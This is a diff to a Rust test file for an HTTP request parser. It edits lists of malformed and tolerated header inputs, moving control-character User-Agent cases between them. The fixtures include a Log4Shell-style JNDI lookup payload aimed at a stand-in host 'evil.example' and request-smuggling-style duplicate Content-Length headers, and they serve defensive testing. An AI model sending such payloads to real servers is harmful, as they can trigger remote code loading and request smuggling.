@@ -68,8 +68,6 @@ const BROKEN: &[&[u8]] = &[
     b"GET /health HTTP/1.1\r\nHost : x\r\n\r\n",
     b"GET /health HTTP/1.1\r\nHost: x\r\nX-A: a\0b\r\n\r\n",
     b"GET /health HTTP/1.1\r\nHost: x\r\nX\0A: a\r\n\r\n",
-    b"GET /health HTTP/1.1\r\nHost: x\r\nUser-Agent: a\rb\r\n\r\n",
-    b"GET /health HTTP/1.1\r\nHost: x\r\nUser-Agent: \x1b[31m\r\n\r\n",
     b"GET /health HTTP/1.1\r\nHost: x\r\nnonsense\r\n\r\n",
     b"GET /health HTTP/1.1\r\nHost: x\r\nContent-Length: 0\r\nContent-Length: 1\r\n\r\n",
     b"GET /health HTTP/1.1\r\nHost: x\r\nContent-Length: -1\r\n\r\n",
@@ -109,6 +107,7 @@ const IGNORED: &[&str] = &[
     "Referer: https://evil.example/",
     "TE: trailers",
     "User-Agent: ${jndi:ldap://evil.example}",
+    "User-Agent: \x1b[31ma\rb\x7f",
 ];
 
 #[track_caller]
